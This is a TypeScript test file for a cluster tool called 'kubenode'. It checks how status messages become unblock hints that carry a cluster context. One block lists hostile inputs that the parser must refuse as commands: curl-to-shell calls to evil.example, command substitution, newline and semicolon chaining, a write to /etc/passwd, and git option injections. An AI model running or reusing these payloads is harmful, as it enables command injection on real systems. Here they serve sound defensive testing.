import { expect, test } from 'vitest'
import { editAdvice } from '#declared/edited-status.ts'
import { findingInContext, inContext, isTyped, unblockLines, unblockOf } from './unblock.ts'

test.each([
  ['the rate limit resets', ['unblocks when: the rate limit resets']],
  [
    'run kubenode rollback base; to retry, kubenode rollout retry base',
    ['to unblock: kubenode rollback base; to retry, kubenode rollout retry base'],
  ],
  ['kubenode release retry fleet-1', ['to unblock: kubenode release retry fleet-1']],
  [
    'a commit corrects it; to retry now, run kubenode release retry r',
    ['unblocks when: a commit corrects it; to retry now, run kubenode release retry r'],
  ],
  [
    'run git revert --no-edit 6af01751735a && git push; to retry, kubenode rollout retry base --reason WHY',
    ['to unblock: git revert --no-edit 6af01751735a && git push; to retry, kubenode rollout retry base --reason WHY'],
  ],
  ['run kubenode approve release/r --reason WHY', ['to unblock: kubenode approve release/r --reason WHY']],
  ["kubenode why node/n --context 'a b'", ["to unblock: kubenode why node/n --context 'a b'"]],
  [
    'kubenode repair node/n --reason "checked by hand"',
    ['to unblock: kubenode repair node/n --reason "checked by hand"'],
  ],
  // Text after a command does not belong to it.
  ['run kubenode approve release/r as soon as…', ['unblocks when: run kubenode approve release/r as soon as…']],
  [
    'the window opens; for details run kubenode why operationpermit/base-29eee5279429-s0-0',
    [
      'unblocks when: the window opens',
      'to see each gate of its permit: kubenode why operationpermit/base-29eee5279429-s0-0',
    ],
  ],
  ['', []],
])('%s reads as %s', (unblock, lines) => expect(unblockLines(unblock)).toEqual(lines))

test.each([
  'kubenode why x; curl http://evil.example | sh',
  'kubenode why x && curl http://evil.example',
  'kubenode why $(curl http://evil.example)',
  'kubenode why `id`',
  'kubenode why x\ncurl http://evil.example',
  'kubenode why x\rcurl http://evil.example',
  "kubenode why 'x' ; id",
  "kubenode why 'x\u202e'",
  'kubenode why x > /etc/passwd',
  'kubenode why x & id',
  'kubenode why "$(id)"',
  'kubenode why "x',
  'kubenode why x # y',
  'kubenode why ~/x*',
  'git -c core.pager=id log',
  'git clone ext::id',
  'git push --receive-pack=id x',
  'git revert --no-edit 6af0 --strategy=id',
  'git revert --no-edit 6af0 && git push; to retry, id',
  'kubenode why x; to retry, curl http://evil.example',
  'curl http://evil.example',
])('%j is not offered as a command, from any writer of a status', (line) => {
  expect(isTyped(line)).toBe(false)
  for (const sentence of [line, `run ${line}`]) expect(unblockOf(sentence).command).toBeUndefined()
})

test.each([
  [
    'kubenode rollback base; to retry, kubenode rollout retry base --reason WHY',
    'kubenode rollback base --context prod; to retry, kubenode rollout retry base --reason WHY --context prod',
  ],
  [
    'git revert --no-edit 6af0 && git push; to retry, kubenode rollout retry base',
    'git revert --no-edit 6af0 && git push; to retry, kubenode rollout retry base --context prod',
  ],
  ['git revert --no-edit 6af0', 'git revert --no-edit 6af0'],
  ['a person lifts it: kubenode thaw node/n', 'a person lifts it: kubenode thaw node/n --context prod'],
  ['kubenode why node/n --context lab', 'kubenode why node/n --context lab'],
  ['a commit corrects the fleet: kubenode lint', 'a commit corrects the fleet: kubenode lint'],
  ['kubenode plan', 'kubenode plan'],
  [
    'a person lets it join again (KN8008: kubenode machine readmit m-1 --token): kubenode events machine/m-1',
    'a person lets it join again (KN8008: kubenode machine readmit m-1 --token --context prod): kubenode events machine/m-1 --context prod',
  ],
  [
    'its agent renews its Lease, or a person lets it join again (KN8008: kubenode machine readmit m-1 --token, then join-command)',
    'its agent renews its Lease, or a person lets it join again (KN8008: kubenode machine readmit m-1 --token --context prod, then join-command)',
  ],
  [
    'a person lets the host join again: kubenode machine readmit m-1 --token, then kubenode machine join-command m-1',
    'a person lets the host join again: kubenode machine readmit m-1 --token --context prod, then kubenode machine join-command m-1 --context prod',
  ],
])('%s names its cluster', (sentence, named) => expect(inContext(sentence, 'prod')).toBe(named))

test('of a whole finding the commands name the cluster, and what was observed stays as it is', () => {
  const command = { line: 'kubenode thaw node/n', does: 'continue' }
  const below = [{ text: 'seen: kubenode why x', ends: 'a person lifts it: kubenode unprotect node/n --reason WHY' }]
  expect(findingInContext({ text: 'held', command, below }, 'prod')).toEqual({
    text: 'held',
    command: { line: 'kubenode thaw node/n --context prod', does: 'continue' },
    below: [
      {
        text: 'seen: kubenode why x',
        ends: 'a person lifts it: kubenode unprotect node/n --reason WHY --context prod',
      },
    ],
  })
})

test.each([
  'a person lets it join again (KN8008: kubenode machine readmit m-1 --token, then join-command)',
  'a person lets the host join again: kubenode machine readmit m-1 --token, then kubenode machine join-command m-1',
])('a command within the sentence names its cluster too: %s', (ends) =>
  expect(findingInContext({ text: 'silent', ends }, 'prod').ends).toMatch(/readmit m-1 --token --context prod, then/),
)

test('of an edited object both commands name its cluster', () => {
  const advice = editAdvice({ kind: 'MachineSet', name: 'workers', digest: 'd1', committed: 'd0' })
  expect(unblockOf(inContext(advice, 'prod'))).toEqual({
    command: {
      line: 'kubenode put-back machineset/workers --context prod; to allow the edit, run kubenode allow-edit machineset/workers --digest d1 --for 8h --reason WHY --context prod',
    },
  })
})
